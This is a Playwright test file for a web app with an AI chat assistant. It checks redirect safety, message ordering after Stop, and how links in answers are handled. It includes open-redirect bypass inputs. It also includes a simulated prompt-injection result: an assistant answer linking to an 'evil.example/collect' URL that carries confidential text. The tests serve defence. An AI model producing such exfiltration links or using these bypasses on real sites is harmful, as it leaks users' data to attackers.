import {
  expect,
  expectNoConsoleErrors,
  nav,
  PASSWORD,
  signIn,
  signOut,
  test,
  uniqueEmail,
  watchConsole,
} from "./support";

test.describe.configure({ mode: "serial" });

const person = uniqueEmail("careful-nav");

test("?next= after sign-up and sign-in never leaves this site", async ({ page, baseURL }) => {
  const errors = watchConsole(page);
  const origin = new URL(baseURL ?? page.url()).origin;

  // "/.//example.com" resolves to the path "//example.com", which a browser reads as a host.
  await page.goto("/register?next=%2F.%2F%2Fexample.com");
  await page.getByLabel("Email").fill(person);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByLabel("Organization name").fill("Careful Navigation");
  await page.getByRole("button", { name: "Create account" }).click();
  await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
  expect(new URL(page.url()).origin).toBe(origin);
  await signOut(page, person);

  // URL parsing drops the tab, so "/\t/example.com" would become "//example.com".
  await page.goto("/login?next=%2F%09%2Fexample.com");
  await signIn(page, person);
  await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
  expect(new URL(page.url()).origin).toBe(origin);
  expect(page.url()).not.toContain("example.com");

  // A same-site path is still followed.
  await signOut(page, person);
  await page.goto("/login?next=%2Fsearch%3Fq%3Dherons");
  await signIn(page, person);
  await expect(page).toHaveURL(/\/search\?q=herons$/);
  await expectNoConsoleErrors(errors);
});

test("a question sent right after Stop keeps its own answer", async ({ page }) => {
  const errors = watchConsole(page);
  await page.goto("/login");
  await signIn(page, person);
  await nav(page, "Chat");
  await page.getByRole("button", { name: "New chat" }).click();
  const message = page.getByLabel("Message");
  const conversation = page.getByRole("log", { name: "Conversation" });
  const first = "What do herons eat?";
  const second = "Where do herons nest?";
  // The first question reaches the server (which answers and stores it) but its answer is held
  // back, so Stop is there to press; the second is held back before the server sees it, so it is
  // still pending when the first one's delayed clean-up refetches the conversation.
  let sent = 0;
  await page.route("**/api/chat/sessions/*/messages", async (route) => {
    sent += 1;
    const hold = () => new Promise((resolve) => setTimeout(resolve, 3000));
    if (sent > 1) await hold();
    const response = await route.fetch();
    if (sent === 1) await hold();
    await route.fulfill({ response }).catch(() => undefined); // the first one was stopped
  });

  await message.fill(first);
  await message.press("Enter");
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(page.getByRole("button", { name: "Send" })).toBeVisible();

  // From the moment the second question is sent, it is always followed by its answer (live or
  // stored): the first answer's delayed clean-up must not wipe the second one.
  await message.fill(second);
  await message.press("Enter");
  await expect(conversation.getByText(second)).toBeVisible();
  await page.evaluate((expected) => {
    const log = document.querySelector('[role="log"]');
    const record = window as unknown as { violations: string[] };
    record.violations = [];
    const check = () => {
      const bubbles = [...(log?.querySelectorAll("[data-role]") ?? [])];
      const users = bubbles.filter((b) => b.getAttribute("data-role") === "user");
      const question = users[users.length - 1];
      if (!question || question.textContent !== expected || bubbles.at(-1) === question) {
        record.violations.push(bubbles.map((b) => b.textContent).join(" | "));
      }
    };
    check();
    new MutationObserver(check).observe(log ?? document.body, {
      childList: true,
      subtree: true,
      characterData: true,
    });
  }, second);
  await expect(page.getByRole("button", { name: "Send" })).toBeVisible({ timeout: 120_000 });
  await page.waitForTimeout(2500); // past the first answer's clean-up (0.5 s + refetch + 1.5 s)
  const violations = await page.evaluate(
    () => (window as unknown as { violations: string[] }).violations,
  );
  expect(violations, "the second question was left without its answer").toEqual([]);
  await expect(conversation.getByText("The answer was interrupted")).toHaveCount(0);

  // Both questions were stored, in order, each followed by an answer.
  await page.reload();
  const stored = page.getByRole("log", { name: "Conversation" });
  await expect(stored.getByText(second)).toBeVisible();
  await expect(stored.getByText(first)).toBeVisible();
  const roles = await stored
    .locator("[data-role]")
    .evaluateAll((nodes) => nodes.map((n) => n.getAttribute("data-role")));
  expect(roles.at(-1)).toBe("assistant");
  expect(roles.filter((r) => r === "user")).toHaveLength(2);
  await expectNoConsoleErrors(errors);
});

test("a link in an answer shows where it leads and does not open on one click", async ({
  page,
  context,
}) => {
  const errors = watchConsole(page);
  await page.goto("/login");
  await signIn(page, person);
  await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();

  // A stored answer in which a document's planted instruction became a link carrying text.
  const target = "https://evil.example/collect?q=the%20merger%20closes%20on%20Friday";
  const sessionId = await page.evaluate(async () => {
    const csrf = document.cookie.match(/(?:^|;\s*)archivist_csrf=([^;]+)/)?.[1] ?? "";
    const response = await fetch("/api/chat/sessions", {
      method: "POST",
      headers: { "content-type": "application/json", "X-CSRF-Token": decodeURIComponent(csrf) },
      body: JSON.stringify({ title: "Planted link" }),
    });
    return ((await response.json()) as { id: string }).id;
  });
  await page.route(`**/api/chat/sessions/${sessionId}`, async (route) => {
    const response = await route.fetch();
    const session = (await response.json()) as { messages: unknown[] };
    session.messages.push(
      {
        id: "00000000-0000-4000-8000-000000000001",
        role: "user",
        content: "What is in the board notes?",
        citations: [],
        created_at: new Date().toISOString(),
      },
      {
        id: "00000000-0000-4000-8000-000000000002",
        role: "assistant",
        content: `The notes are summarized [here](${target}).`,
        citations: [],
        created_at: new Date().toISOString(),
      },
    );
    await route.fulfill({ response, json: session });
  });
  let outside = 0;
  await context.route("https://evil.example/**", async (route) => {
    outside += 1;
    await route.fulfill({ contentType: "text/html", body: "<p>collected</p>" });
  });

  await page.goto(`/chat?session=${sessionId}`);
  const conversation = page.getByRole("log", { name: "Conversation" });
  const link = conversation.getByRole("button", { name: /here/ });
  await expect(link).toContainText("evil.example"); // the destination is visible
  const before = page.url();
  await link.click();

  const dialog = page.getByRole("alertdialog");
  await expect(dialog).toBeVisible();
  await expect(dialog.getByLabel("Full address")).toHaveText(target);
  expect(page.url()).toBe(before);
  expect(context.pages()).toHaveLength(1);
  await dialog.getByRole("button", { name: "Cancel" }).click();
  await expect(dialog).toHaveCount(0);
  expect(outside, "a request reached the outside site").toBe(0);

  // Confirmed, it opens in a new tab that cannot reach back into this one.
  await link.click();
  const popup = context.waitForEvent("page");
  await page.getByRole("alertdialog").getByRole("link", { name: "Open link" }).click();
  await (await popup).waitForLoadState();
  expect((await popup).url()).toBe(target);
  expect(page.url()).toBe(before);
  await expectNoConsoleErrors(errors);
});
